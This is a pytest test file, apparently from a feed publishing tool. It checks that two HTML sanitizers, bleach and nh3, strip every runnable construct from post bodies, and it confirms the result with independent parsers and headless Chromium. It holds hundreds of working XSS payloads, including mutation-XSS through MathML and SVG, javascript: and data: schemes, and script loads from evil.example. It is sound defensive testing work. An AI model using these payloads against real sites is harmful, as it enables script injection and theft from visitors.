"""IN-15: whatever is written into a body, what comes out runs nowhere.

Each vector goes through both cleaners. The output is read again by html5lib (as browsers parse), by lxml (as many readers
do) and by Chromium, and looked at by a checker of its own that shares no table with the code under test.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from bleach._vendor import html5lib
from lxml import html as lxml_html

from feeds import content
from feeds.content import Policy
from feeds.model import NOT_XML

BASE = "https://example.org/2021/a/"
BACKENDS = ("bleach", "nh3")

# Written out by hand from the policy's words, not imported: a slip in the tables must fail here.
_ALLOWED = (
    "a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd "
    "li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr audio "
    "video source track picture"
)
ALLOWED = set(_ALLOWED.split())
EVERYWHERE = {"title", "lang", "dir"}
ATTRIBUTES = {
    "a": "href id", "img": "src srcset sizes alt width height", "td": "colspan rowspan scope", "th": "colspan rowspan scope",
    "ol": "start reversed", "details": "open", "time": "datetime", "ins": "datetime cite", "del": "datetime cite",
    "blockquote": "cite", "q": "cite", "audio": "src controls", "video": "src controls poster width height",
    "source": "src srcset type media", "track": "src srclang label kind", "code": "class",
}  # fmt: skip
#: MathML's presentation elements and what may stand on them: numbers, lengths and words, never an address.
MATHML = set(
    "math semantics annotation mrow mi mn mo ms mspace mtext mfrac msqrt mroot mstyle merror mpadded mphantom msub msup msubsup munder mover"
    " munderover mmultiscripts mprescripts none mtable mtr mlabeledtr mtd menclose mfenced".split()
)
MATHML_ATTRIBUTES = set(
    "display displaystyle scriptlevel mathvariant stretchy fence separator form largeop movablelimits accent accentunder lspace rspace"
    " symmetric minsize maxsize linethickness width height depth voffset columnalign rowalign rowspacing columnspacing columnspan rowspan"
    " columnlines rowlines frame notation open close separators side align alttext dir title encoding".split()
)
LINK = re.compile(r"(?:https?://[!-~]+|mailto:[!-~]*|tel:[!-~]*)\Z")
RESOURCE = re.compile(r"https?://[!-~]+\Z")

J = "javascript:alert(1)"
X = "<img src=x onerror=alert(1)>"

#: Written after what the suites of DOMPurify, bleach, ammonia and feedparser look for; by kind.
VECTORS: dict[str, list[str]] = {
    "scripts": [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script\n>", "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1)//<</script>", "<script>alert(1)", "<script><!--<script></script>alert(1)//--></script>", "</script><script>alert(1)</script>",
        "<script\x00>alert(1)</script>", "<script\x0c>alert(1)</script>", "<\x00script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
        "<script>alert(1)</script\t\n bar>", "<script type='text/x'>&lt;/script&gt;" + X + "</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<script xlink:href=data:,alert(1) />", "<svg><script href='data:,alert(1)'/></svg>", "<script src=\"data:text/javascript,alert(1)\"></script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    ],
    "events": [
        X, "<IMG SRC=x OnErRoR=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\x0conerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>", "<img src=x onerror=&#97;lert(1)>", "<body onload=alert(1)>", "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>x",
        "<p onclick=alert(1) onmouseover=alert(2)>x</p>", "<video src=x onerror=alert(1)><source onerror=alert(1)></video>", "<audio src onloadstart=alert(1)>",
        "<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>", "<marquee onstart=alert(1)>x</marquee>", "<p \u00a0onclick=alert(1)>x</p>", "<p\u2003onclick=alert(1)>x</p>",
        "<img src=x on\u0000error=alert(1)>", "<img src=x ONERROR\x0b=alert(1)>", "<time onanimationend=alert(1) datetime=x>x</time>", "<p onﬁnish=alert(1)>x</p>",
        "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>", "<div/onmouseover='alert(1)'style=position:fixed;inset:0>x</div>",
    ],
    "schemes": [
        f"<a href='{J}'>x</a>", "<a href=' \x01\x1f javascript:alert(1)'>x</a>", "<a href='JAVASCRIPT:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript\r:alert(1)'>x</a>", "<a href='java&#9;script&#58;alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>",
        "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116(1)'>x</a>",
        "<a href='&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'>x</a>", "<a href='&#0000106avascript:alert(1)'>x</a>",
        "<a href='java\x00script:alert(1)'>x</a>", "<a href='java&#0;script:alert(1)'>x</a>", "<a href='java&#xFFFE;script:alert(1)'>x</a>", "<a href='javascript:1'>x</a>",
        "<a href='javascript://%0aalert(1)'>x</a>", "<a href='javascript&amp;colon;alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>", "<a href='blob:https://example.org/1'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<a href='filesystem:https://example.org/temporary/x'>x</a>", "<a href='\u2028javascript:alert(1)'>x</a>", "<a href='\u00a0javascript:alert(1)'>x</a>",
        "<a href='\ufeffjavascript:alert(1)'>x</a>", "<a href='jav\u00adascript:alert(1)'>x</a>", "<a href='ｊavascript:alert(1)'>x</a>", "<a href='javaſcript:alert(1)'>x</a>",
        "<a href='//javascript:alert(1)'>x</a>", "<a href='http://[javascript:alert(1)'>x</a>", "<a href='x:y' href='javascript:alert(1)'>x</a>",
        "<a href=https://a.example/ HREF=javascript:alert(1)>x</a>", f"<a xlink:href='{J}'>x</a>", f"<area href='{J}'>", f"<a ping='{J}' href='/a'>x</a>",
        "<img src='javascript:alert(1)'>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img dynsrc='javascript:1' lowsrc='javascript:2' src='/a'>",
        f"<img srcset='{J} 1x, /a.png 2x'>", "<img srcset=',,javascript:alert(1),, 1x'>", "<img src=/a srcset='data:image/svg+xml;base64,AA== 1x'>",
        f"<video poster='{J}' src='{J}'><source src='{J}'><track src='{J}'></video>", f"<blockquote cite='{J}'>x</blockquote><q cite='{J}'>x</q>",
        f"<table background='{J}'><td background='{J}'>x</table>", f"<ins cite='{J}'>x</ins><del cite='data:,x'>x</del>", f"<img longdesc='{J}' usemap='{J}' src=/a>",
        f"<img data-src='{J}' src='data:,'>", f"<img data-srcset='{J} 2x' src='blank.gif'>", f"<video data-src='{J}'></video>", f"<amp-img src='{J}'></amp-img>",
    ],
    "forms and frames": [
        f"<form action='{J}'><input type=submit><button formaction='{J}'>x</button></form>", "<form id=a></form><button form=a formaction=javascript:alert(1)>x",
        "<form><div></form><form><math><mtext></form><form><mglyph><style></math>" + X, f"<isindex action='{J}' type=image>", f"<input type=image src=x onerror=alert(1) formaction='{J}'>",
        "<form><input name=attributes><input name=nodeName></form>", f"<iframe src='{J}'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", f"<iframe><p>{X}</iframe>", f"<iframe src=//a.example/ title='\">{X}'></iframe>",
        f"<frameset onload=alert(1)><frame src='{J}'></frameset>", f"<embed src='{J}'>", "<embed src='data:image/svg+xml;base64,AA'>", f"<object data='{J}'>{X}</object>",
        f"<object><param name=src value='{J}'></object>", f"<applet code=x>{X}</applet>", f"<portal src='{J}'></portal>", f"<fencedframe>{X}</fencedframe>",
        f"<iframe data-src='{J}' src='about:blank'></iframe>", f"<noframes>{X}</noframes>", f"<object data=//a.example/><embed src='{J}'></object>",
        f"<iframe src='https://www.youtube.com/embed/{J}'></iframe>", "<iframe src='https://w.soundcloud.com/player/?url=javascript:alert(1)'></iframe>",
        "<iframe src='https://codepen.io/a/embed/b\"onmouseover=alert(1)'></iframe>", "<iframe src='https://embed.music.apple.com/x/\"><script>alert(1)</script>'></iframe>",
    ],
    "documents": [
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", f"<base href='{J}//'><a href='/a'>x</a>", "<base href=//evil.example/><img src=a.png>",
        f"<link rel=stylesheet href='{J}'>", "<link rel=import href='data:text/html,<script>alert(1)</script>'>", "<style>@import 'javascript:alert(1)';</style>",
        "<html onload=alert(1)><head><title>x</title></head><body onload=alert(2)>y</body></html>", "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;", "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<?php echo '<script>' ?>" + X, "<![CDATA[<script>alert(1)</script>]]>", "<!ELEMENT x><script>alert(1)</script>", "<import implementation=x><xml src=x>" + X,
        "<xss:x xmlns:xss='http://www.w3.org/1999/xhtml' onclick=alert(1)>x</xss:x>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    ],
    "styles": [
        "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='width:expression(alert(1))'>x</p>", "<p style='-moz-binding:url(x)'>x</p>", "<p style='behavior:url(x)'>x</p>",
        "<style><img src='</style><img src=x onerror=alert(1)//'>", "<style></style\x0b>" + X, "<style><!--</style>" + X + "--></style>", "<font face='x' color=expression(1)>x</font>",
        "<style/onload=alert(1)>", "<b style='position:fixed;top:0;left:0;width:9999px;height:9999px'>x</b>",
    ],
    "mutations": [
        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<math><mi></p><style><a title='</style><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
        "<math><annotation-xml encoding='text/html'><p><style><img title='</style><img src=x onerror=alert(1)>'>", "<svg><foreignObject><p><style><a title='</style><script>alert(1)</script>'>",
        "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><p title='</title><img src=x onerror=alert(1)>'></title>", "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
        "<template shadowrootmode=open><script>alert(1)</script></template>", "<plaintext><p>" + X, "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>", "<select><template><style>" + X,
        "<select><iframe></select><img src=x onerror=alert(1)>", "<table><tr><td><svg><desc><td><img title='</svg>" + X + "'>",
        "<table><script>alert(1)</script><caption><svg><p>" + X, "<table><a href=javascript:alert(1)>x<td>" + X, "<table><style></table>" + X + "</style>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>", "<svg><title><![CDATA[</title><script>alert(1)</script>]]>",
        "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>-->", "<!-- --!>" + X + "<!-- -->", "<!-- <!-- -->" + X + " -->",
        "</p><svg/onload=alert(1)>", "<a/><b/></a>" + X, "<p id=x title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>", "<p title=\"`><img src=x onerror=alert(1)>\">x</p>",
        "<p title='--><script>alert(1)</script>'>x</p>", "<p title=\"&lt;/p&gt;\" lang='\"><script>alert(1)</script>'>x</p>", "<a href='https://a.example/\"><img src=x onerror=alert(1)>'>x</a>",
        "<svg><a><style><b title='</style><img src=x onerror=alert(1)>'>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math href=javascript:alert(1)>x</math>", "<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><image href=x onerror=alert(1)></svg>", "<svg><font-face-uri xlink:href=javascript:alert(1)>", "<ruby><rtc><style></rtc>" + X,
        "<dl><dt><style><dd>" + X + "</style>", "<p><svg><p><style><g title='</style>" + X + "'>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>" + X + "'>",
        "<b><i></b></i><table><b><tr><i>" + X, "<a><a><a href=javascript:alert(1)><table><a>x", "<nobr><nobr><style>" + X, "<button><p><button>" + X, "<h1><svg><h2><style>" + X,
        "<img alt='<x' title='/><script>alert(1)</script>' src=/a>", "<img src=\"/a\" alt=\"</noscript><script>alert(1)</script>\">", "<code class='language-x\" onclick=alert(1)'>x</code>",
        "<code class='language-x onclick=alert(1)'>x</code>", "<p lang='</title><script>alert(1)</script>'>x</p>", "<td title='</table>" + X.replace("'", "") + "'>x",
    ],
    "broken": [
        "<img src='x\" onerror=alert(1)>", "<img src=\"x' onerror=alert(1)\n>", "<img src=x onerror=alert(1)", "<img src=x onerror=alert(1)//", "<a href=\"x\"\"onclick=alert(1)>x</a>",
        "<a href='x'=onclick=alert(1)>x", "<p ='' onclick=alert(1)>x", "<p \"='<script>alert(1)</script>'>", "< script>alert(1)</script>", "<\tscript>alert(1)</script>",
        "</<script>alert(1)</script>", "<%<script>alert(1)</script>%>", "<!<script>alert(1)</script>>", "<a\x00href=javascript:alert(1)>x</a>", "\x00<p\x00 \x00onclick\x00=alert(1)>x",
        "<img\x00src=x\x00onerror=alert(1)>", "\ud800<script>alert(1)</script>", "\ufffe<p>\uffff</p>&#xFFFF;&#1;&#xD800;&#x110000;", "<p title='&#1;&#xFFFE;&#0;'>x</p>", "<x" * 50 + X,
        "<p" + " a" * 199 + " onclick=alert(1)>x</p>", "<`script>alert(1)</`script>", "<a href=`javascript:alert(1)`>x</a>", "<img src=`x`onerror=alert(1)>", "<a href=javascript:alert(1)<b>x</a>",
        "<p title=&lt;script&gt; lang=<script>alert(1)</script>>x</p>", "<ı><İmg src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>", "<imG srC=x onerrOr=alert(1)/>",
    ],
    "names": [
        "<img name=getElementById src=/a><a id=cookie name=body href=/a>x</a>", "<a id=fn:1 name=location href=#fn:1>x</a>", "<p id=__proto__ class='x language-js'>x</p>",
        "<a id='fn1\"onclick=alert(1)' href='#fn1\"onclick=alert(1)'>x</a>", "<p is=x-script slot=x part=y contenteditable nonce=z>x</p>", "<div itemscope itemtype=x data-x='<script>'>x</div>",
        "<x-script onclick=alert(1)>x</x-script>", "<\u0301script>alert(1)</script>", "<a target=_blank rel=opener href=https://a.example/ download ping=https://b.example/>x</a>",
    ],
    "formulas": [
        "<math href='javascript:alert(1)'><mi>x</mi></math>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math><mrow href=javascript:alert(1)><mi>x</mi></mrow></math>",
        "<math><maction actiontype='statusline#http://a.example' xlink:href='javascript:alert(1)'>x</maction></math>", "<math><mi onclick=alert(1) style=x id=y class=z>x</mi></math>",
        f"<math><mtext>{X}</mtext></math>", f"<math><mi>{X}</mi><mo><b>{X}</b></mo></math>", "<math><mtext><script>alert(1)</script></mtext></math>", "<math><ms><style><img src=x onerror=alert(1)></style></ms></math>",
        "<math><mtext><mglyph><style><img title='</style><img src=x onerror=alert(1)>'></style></mglyph></mtext></math>", "<math><mtext><malignmark><style><img title='</style><img src=x onerror=alert(1)>'>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>", "<math><mtext><table><malignmark><mtext><style><a title='</style><img src onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=alert(1)>'></style></annotation-xml></math>",
        "<math><annotation-xml encoding='application/xhtml+xml'><svg><script>alert(1)</script></svg></annotation-xml></math>", f"<math><annotation encoding='text/html'>{X}</annotation></math>",
        f"<math><semantics><mi>x</mi><annotation encoding='application/x-tex'>{X}</annotation></semantics></math>", "<math><annotation encoding='application/x-tex'></annotation><mi>&lt;img src=x onerror=alert(1)&gt;</mi></math>",
        "<math><annotation encoding='application/x-tex'><![CDATA[</math><img src=x onerror=alert(1)>]]></annotation></math>", f"<math></p>{X}</math>", f"<math></br>{X}</math>", f"<math><p>{X}</p></math>", "<math><svg><script>alert(1)</script></svg></math>",
        "<svg><math><mi><style><img src=x onerror=alert(1)></style></mi></math></svg>", "<math><mtext><svg><style><img title='</style><img src=x onerror=alert(1)>'>", "<math><math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>", "<table><math><mi><td><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>", "<select><math><mi>x</mi></select>" + X,
        "<mi><mglyph><style><img title='</style><img src=x onerror=alert(1)>'></style></mglyph></mi>", "<mtext><b>x</b></mtext><annotation-xml encoding=text/html>" + X, "<math alttext='\"><img src=x onerror=alert(1)>'><mi>x</mi></math>", "<math display='\"onclick=alert(1)'><mi>x</mi></math>",
        "<math xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></math>", "<m:math xmlns:m='http://www.w3.org/1998/Math/MathML'><m:mi onclick=alert(1)>x</m:mi></m:math>",
        "<span class='MathJax' data-mathml='&lt;math&gt;&lt;mtext&gt;&lt;img src=x onerror=alert(1)&gt;&lt;/mtext&gt;&lt;/math&gt;'>x</span>", "<span class=MathJax data-mathml='&lt;math&gt;&lt;mi href=\"javascript:alert(1)\"&gt;x&lt;/mi&gt;&lt;/math&gt;'>x</span>",
        "<span class=MathJax data-mathml='&lt;!DOCTYPE a [&lt;!ENTITY b \"c\"&gt;]&gt;&lt;math&gt;&amp;b;&lt;/math&gt;'>x</span>", "<span class=MathJax data-mathml='&lt;math&gt;&lt;script xmlns=\"http://www.w3.org/1999/xhtml\"&gt;alert(1)&lt;/script&gt;&lt;/math&gt;'>x</span>",
        f"<script type='math/tex'>{X}</script>", "<script type='math/tex'></scr</script>ipt>" + X, "<script type='math/tex' src='//evil.example/x.js'>x</script>", "<script type='math/mml'><math><mi>x</mi></math></script>", f"<span class=MathJax_TeX>{X}</span>",
        f"<span class=katex><span class=katex-mathml>{X}</span></span>", f"<mjx-container>{X}<mjx-assistive-mml><math><mtext>{X}</mtext></math></mjx-assistive-mml></mjx-container>", f"<span class=katex onclick=alert(1)><math><mi>x{X}</mi></math></span>",
    ],
    "whole tags": [
        "<object>" + X, "x <script> y " + X, "<title>" + X, "<textarea>" + X, "<style>" + X, "<xmp>" + X, "<iframe>" + X, "<plaintext>" + X, "<noembed>" + X, "<select>" + X, "<applet>" + X,
        "<script>a</script >" + X, "<script>a</script/x>" + X, "<script><!--</script>" + X, "<style>a</style\tx>" + X, "<a <img src=x onerror=alert(1)>>", "<a x='" + X, "<a x=\"" + X + "\"", "<!--" + X, "<!-->" + X, "<!--->" + X, "<!--x--!>" + X,
        "<?x" + X, "</" + X, "</ " + X, "<\n" + X, "<a/" + X, "<img src=x onerror=alert(1)", "<img src=x onerror=alert(1) ", "<img src=x onerror=alert(1)//", "<b<i>" + X, "<Map<String>" + X, "<String>" + X + "</String>", "<a ='x'" + X + ">", "<a b==\"" + X + "\">", "<a b=c\"" + X + "\">",
        "<!-- <b> --><img src=x <!-- --> onerror=alert(1)>", "<<!-- -->img src=x onerror=alert(1)>", "<scr<!-- -->ipt>alert(1)</script>", "<scr<script></script>ipt>alert(1)</script>", "<script>x</script<img src=x onerror=alert(1)>>", "<i" + "a" * 70 + " onclick=alert(1)>", "<x-" + "a" * 70 + ">" + X,
    ],
    "directions": ["<p>\u202ealert\u202c</p>", "<bdo dir=rtl>x</bdo><p dir='\"onclick=alert(1)'>x</p>", "<a href='https://a.example/\u202egpj.exe'>x</a>"],
}  # fmt: skip
ALL = [(kind, one) for kind, vectors in VECTORS.items() for one in vectors]
#: As Markdown writes them.
MARKDOWN = [
    f"[x]({J})", f"[x](<{J}>)", "[x](java&#115;cript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", f"![x]({J})", f"<{J}>",
    f"[x]: {J}\n\n[x]", "![x](/a \"\" onerror=alert(1))", "![x\" onerror=alert(1)](/a)", "[x](/a '\"onclick=alert(1)')", "`" + X + "`", "    " + X, "```\n" + X + "\n```",
    "```x\" onclick=alert(1)\ny\n```", X, "<p\nonclick=alert(1)\n>", "a<script>\n\nalert(1)\n\n</script>b", "[^1]\n\n[^1]: " + X, "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x", "| " + X + " |\n|---|\n| x |",
    "- [x] " + X, "{% raw %}" + X + "{% endraw %}", "{% youtube \"><script>alert(1)</script> %}", "{% asset_img a.png \"onerror=alert(1) %}", "{% img x onerror=alert(1) /a.png %}",
    "{{< figure src=\"javascript:alert(1)\" caption=\"<script>alert(1)</script>\" >}}", "{% link x javascript:alert(1) %}", "{% codeblock \"><script> %}</code>" + X + "{% endcodeblock %}",
    "{% codeblock %}\n</code></pre>" + X + "\n{% endcodeblock %}", "$$" + X + "$$", "$" + X + "$", "# x {#\"onclick=alert(1)}", "x <!-- more " + X + " --> y", "[caption id=1]" + X + "[/caption]", "[embed]" + J + "[/embed]",
]  # fmt: skip


def cleaned(body: str, backend: str, markup: str = "html") -> str:
    return content.clean(body, markup, base_url=BASE, policy=Policy(backend=backend), id_prefix="p-").html


def complaints(markup: str) -> Iterator[str]:
    """What in the markup no reader should get, by two parsers."""
    if NOT_XML.search(markup):
        yield "a character that XML cannot carry"
    for name, root in (
        ("html5lib", html5lib.parseFragment(markup, namespaceHTMLElements=False)),
        ("lxml", lxml_html.fragment_fromstring(markup, create_parent="div")),
    ):
        every = list(root.iter())
        formulas = {id(inner) for one in every if str(one.tag).endswith("math") for inner in one.iter() if inner is not one}
        for one in every:
            if one is not root:
                yield from (f"{name}: {said}" for said in _element(one, id(one) in formulas))


def _element(one: Any, in_formula: bool) -> Iterator[str]:
    if not isinstance(one.tag, str):
        yield f"a comment or instruction {one!r}"
        return
    one.tag = one.tag.removeprefix("{http://www.w3.org/1998/Math/MathML}")
    if one.tag not in ALLOWED | MATHML:
        yield f"the tag {one.tag!r}"
    if one.tag in MATHML and one.tag != "math" and not in_formula:
        yield f"the tag {one.tag!r} outside of a formula"
    if in_formula and one.tag not in MATHML - {"math"}:
        yield f"the tag {one.tag!r} in a formula"
    if one.tag in MATHML:
        for name, value in one.attrib.items():
            if name not in MATHML_ATTRIBUTES or (
                name not in ("alttext", "title") and re.search(r"[<>\"'&:/]", value.replace("application/x-tex", ""))
            ):
                yield f"the attribute {name}={value!r} of {one.tag!r}"
        return
    allowed = EVERYWHERE | set(ATTRIBUTES.get(one.tag, "").split())
    for name, value in one.attrib.items():
        if name == "id":
            if not re.fullmatch(r"p-[\w:.-]+", value):
                yield f"the id {value!r}"
        elif name not in allowed:
            yield f"the attribute {name!r} of {one.tag!r}"
        elif name in ("href", "cite") and not LINK.match(value):
            yield f"the link {value!r}"
        elif name in ("src", "poster") and not RESOURCE.match(value):
            yield f"the address {value!r}"
        elif name == "srcset" and not all(
            re.fullmatch(r"https?://[!-+\--~]+( [\d.]+[wxh])?", part) for part in value.split(", ")
        ):
            yield f"the srcset {value!r}"
        elif name == "class" and not re.fullmatch(r"language-[\w+#.-]+", value):
            yield f"the class {value!r}"


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(("kind", "vector"), ALL, ids=[f"{kind}-{number}" for number, (kind, _) in enumerate(ALL)])
def test_nothing_that_runs_comes_out_of_html(kind: str, vector: str, backend: str) -> None:
    """Only what the policy names survives, however the output is parsed; and a second cleaning changes nothing."""
    once = cleaned(vector, backend)
    assert list(complaints(once)) == [], once
    assert cleaned(once, backend) == once


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("vector", [*MARKDOWN, *(one for _, one in ALL)])
def test_nothing_that_runs_comes_out_of_markdown(vector: str, backend: str) -> None:
    """The same written into Markdown, where the renderer stands before the cleaner."""
    result = cleaned(vector, backend, "markdown")
    assert list(complaints(result)) == [], result


@pytest.mark.parametrize("vector", [one for _, one in ALL])
def test_plain_text_is_escaped(vector: str) -> None:
    """A `.txt` post that is not HTML shows what it says."""
    result = cleaned("Text first. " + vector, "bleach", "text")
    assert re.fullmatch(r"(?:</?p>|<br>|[^<>])*", result), result


@pytest.mark.parametrize(("first", "second"), [("bleach", "nh3"), ("nh3", "bleach")])
def test_what_one_cleaner_made_the_other_leaves_safe(first: str, second: str) -> None:
    """Safe twice: a reader's own cleaner on top makes nothing worse."""
    for _, vector in ALL:
        assert list(complaints(cleaned(cleaned(vector, first), second))) == [], vector


def test_the_checker_sees_what_it_should() -> None:
    """The test's own eyes: each raw vector of an event, a script or a scheme is complained of."""
    for bad in (
        "<script>x</script>",
        X,
        f"<a href='{J}'>x</a>",
        "<img src=a.png>",
        "<a href='#x'>x</a>",
        "<p style=x>y</p>",
        "<img srcset='a 1x' src='https://e.org/'>",
        "<!--x-->",
        "<p id=x>y</p>",
    ):
        assert list(complaints(bad)), bad
    assert list(complaints('<p title="x"><a href="https://e.org/">y</a></p>')) == []


CHROMIUM = next((found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))), None)


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here")
@pytest.mark.parametrize("backend", BACKENDS)
def test_a_browser_runs_nothing_of_it(backend: str, tmp_path: Path) -> None:
    """Chromium shows all outputs, put in as a page and by innerHTML (where mutations bite), and no marker is set."""
    outputs = [cleaned(vector, backend) for _, vector in ALL] + [cleaned(vector, backend, "markdown") for vector in MARKDOWN]
    assert "ran:" in _shown(["<img src=x onerror=alert(1)>"], tmp_path / "proof"), "the marker is not set by what runs"
    shown = _shown(outputs, tmp_path / "outputs")
    assert f"all {len(outputs)} shown" in shown
    assert "ran:" not in shown


def _shown(outputs: list[str], folder: Path) -> str:
    """The title of the page that Chromium shows: who ran, and how many pieces it got through."""
    import json

    folder.mkdir()
    page = folder / "page.html"
    pieces = json.dumps(outputs).replace("<", "\\u003c")
    page.write_text(
        "<!DOCTYPE html><meta charset=utf-8><title>-</title><script>"
        "const ran=[];window.alert=window.msgbox=x=>{ran.push(x)};"
        f"const pieces={pieces};"
        "addEventListener('load',()=>{let n=0;for(const piece of pieces){const box=document.createElement('div');document.body.append(box);"
        "box.innerHTML=piece;box.innerHTML=box.innerHTML;for(const a of box.querySelectorAll('*'))"
        "for(const kind of ['mouseover','focus','error','toggle','animationstart'])a.dispatchEvent(new Event(kind));"
        "for(const a of box.querySelectorAll('a'))if(a.protocol==='javascript:')ran.push(a.href);n++}"
        "setTimeout(()=>{document.title=(ran.length?'ran:'+ran:'none')+' all '+n+' shown'},500)});</script><body>\n" + "\n".join(outputs),
        encoding="utf-8", errors="replace",
    )  # fmt: skip
    done = subprocess.run(
        [
            str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--no-first-run", "--host-resolver-rules=MAP * ~NOTFOUND", f"--user-data-dir={folder / 'profile'}", "--virtual-time-budget=2000", "--dump-dom", page.as_uri(),
        ],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    found = re.search(r"<title>(.*?)</title>", done.stdout, re.S)
    return found[1] if found else done.stderr


@pytest.mark.parametrize("backend", ["bleach", "nh3"])
@pytest.mark.parametrize(
    ("piece", "markup"),
    [
        ("<p><b>x</b> y</p>", "html"), ("```\n", "markdown"), ("<br>", "html"), ("<a href='x'>y</a> ", "html"), ("a\n\n", "markdown"),
        ("<img src='x.png'> ", "html"), ("- a\n", "markdown"), ("<td>x", "html"), ("[a](b) ", "markdown"), ("&amp;", "html"),
    ],
)  # fmt: skip
def test_a_long_page_takes_its_length(piece: str, markup: str, backend: str) -> None:
    """IN-11: sixteen times as long takes sixteen times the work, not 256 times; a busy machine may blur that sixfold."""
    policy = Policy(backend=backend)

    def least(count: int, tries: int) -> float:
        spent = []
        for _ in range(tries):
            begun = time.process_time()
            content.clean(piece * count, markup, base_url="https://example.org/", policy=policy)
            spent.append(time.process_time() - begun)
        return min(spent)

    small = max(least(500, 5), 0.002)
    assert least(8000, 1) < 100 * small or least(8000, 2) < 100 * small


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_site_that_allows_all_it_can_is_as_safe(backend: str) -> None:
    """Every tag and attribute that a setting takes: still nothing runs or loads but what an address may, and each is checked."""
    from feeds.content.policy import ALLOWABLE_ATTRIBUTES, ALLOWABLE_TAGS

    policy = Policy(backend=backend, allow_tags=tuple(ALLOWABLE_TAGS), allow_attributes={"*": tuple(ALLOWABLE_ATTRIBUTES)})
    for _, vector in ALL:
        result = content.clean(vector, "html", base_url=BASE, policy=policy, id_prefix="p-").html
        for element in html5lib.parseFragment(result, namespaceHTMLElements=False).iter():
            name = str(element.tag).rpartition("}")[2]
